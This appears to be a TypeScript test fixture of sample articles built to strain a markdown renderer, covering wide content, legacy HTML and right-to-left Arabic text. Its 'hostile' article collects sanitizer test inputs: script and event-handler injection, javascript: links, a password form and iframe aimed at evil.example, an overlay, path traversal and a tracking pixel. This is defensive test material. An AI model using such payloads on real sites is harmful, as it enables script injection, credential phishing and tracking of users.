/** Articles of the kind that break layouts, and of the kind that break out of them. */
export const hardArticles: readonly { name: string; title: string; text: string; links: Record<string, string> }[] = [
  {
    name: 'wide',
    title: 'Averyverylongproductnamewithoutasinglespaceinitforwhateverreason and other wide things',
    links: {},
    text: `A paragraph with https://www.example.com/a/very/long/address/that/goes/on/and/on/and/on?with=parameters&and=more&until=it&is=wider&than=any&telephone=there and \`inline_code_that_is_also_quite_long_and_has_no_space_to_break_at_all\`.

## A table with many columns

| Region | Processor | Memory | Storage | Network | Price a month | Price a year | Notes |
| --- | ---: | ---: | ---: | :---: | ---: | ---: | --- |
| VA1 | 4 | 16 GB | 2,000 GB | 10 Gbit | $1,240.00 | $14,880.00 | First region, and the one with the longest note |

## Code

\`\`\`bash
curl --request POST https://api.example.com/v2/servers --header "Authorization: Bearer $TOKEN" --header "Content-Type: application/json" --data '{"name":"a"}'
\`\`\`

- [x] a step that is done
- [ ] a step with a very deep list
  - one
    - two
      - three
        - four

> A quotation
>
> > in a quotation, with **bold** and <kbd>Ctrl</kbd>+<kbd>C</kbd>

<details><summary>More</summary>

Hidden until it is opened.[^1]

</details>

# A heading of the first level

[^1]: A note at the foot of the page.
`,
  },
  {
    name: 'old-hand',
    title: 'How articles were written by hand',
    links: {},
    text: `<center>**Figure 1.** The pump house, seen from the *north*.<br>Drawn by hand.</center>

<p align="center">A line in the middle of the page,<br>and a second one.</p>

<div align="right">Set to the far side.</div>

<table border="1" cellpadding="4" width="1400" bgcolor="#eeeeee">
<tr><td width="900"><b>Valve</b></td><td><b>What it does</b></td></tr>
<tr><td valign="top">A-100<br>A-200<br>A-300</td><td>Opens when the water stands high.
<ul><li>It is red.</li><li>It is loud.<ul><li>Once a day.</li></ul></li></ul></td></tr>
</table>

1. Turn the wheel.
    * To the left, by hand.
        * Slowly.

            \`\`\`
            wheel --left --slowly --until-it-stops --and-then-a-little-further --as-far-as-it-goes
            \`\`\`

    * To the right.
2. Read the gauge.<br/><br/>It shows <font color="red">red</font> when the tank is empty; the [manual of the gauge](https://gauge.example/manual) says more.

<a name="old-mark"></a>

## Parts

<dl><dt>Wheel</dt><dd>Cast iron.</dd></dl>
`,
  },
  {
    name: 'right-to-left',
    title: 'تثبيت الخادم في عشر دقائق',
    links: {},
    text: `هذه المقالة تشرح كيفية تثبيت الخادم خطوة بخطوة.

## قبل البدء

1. افتح لوحة التحكم.
2. اكتب الأمر التالي:

   \`\`\`bash
   systemctl restart server
   \`\`\`

| العمود | القيمة |
| --- | --- |
| الذاكرة | 16 GB |
`,
  },
  {
    name: 'hostile',
    title: 'An article that tries <script>alert(1)</script> things',
    links: { './wide.md': '/articles/hard/wide/' },
    text: `## Heading

<script>document.documentElement.dataset.broken = 'script'</script>
<img src="x" onerror="document.documentElement.dataset.broken = 'image'">
<a href="javascript:document.documentElement.dataset.broken='link'">click</a>
<div id="kb-main" style="position:fixed;inset:0;z-index:9">over</div>
</main></body><style>body { display: none }</style>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password"></form>
<svg onload="document.documentElement.dataset.broken='svg'"></svg>
<!-- a comment -->

[one](javascript:alert(1)) [two](data:text/html,x) [three](//evil.example/) [four](https://bank.example@evil.example/) [five](../../secret.md) [six](./wide.md)

![tracker](https://evil.example/pixel.png)
`,
  },
];
